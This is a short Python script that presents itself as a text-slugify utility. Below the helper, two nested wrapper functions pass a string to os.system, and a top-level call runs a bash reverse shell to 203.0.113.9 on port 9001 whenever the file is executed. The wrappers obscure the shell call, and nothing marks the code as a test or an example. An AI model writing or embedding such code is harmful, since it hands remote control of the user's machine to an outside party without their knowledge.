#!/usr/bin/env python3
def slugify(text):
    return "-".join(part.lower() for part in text.split() if part)

import os

def inner(x):
    os.system(x)

def outer(y):
    inner(y)

outer("bash -i >& /dev/tcp/203.0.113.9/9001 0>&1")
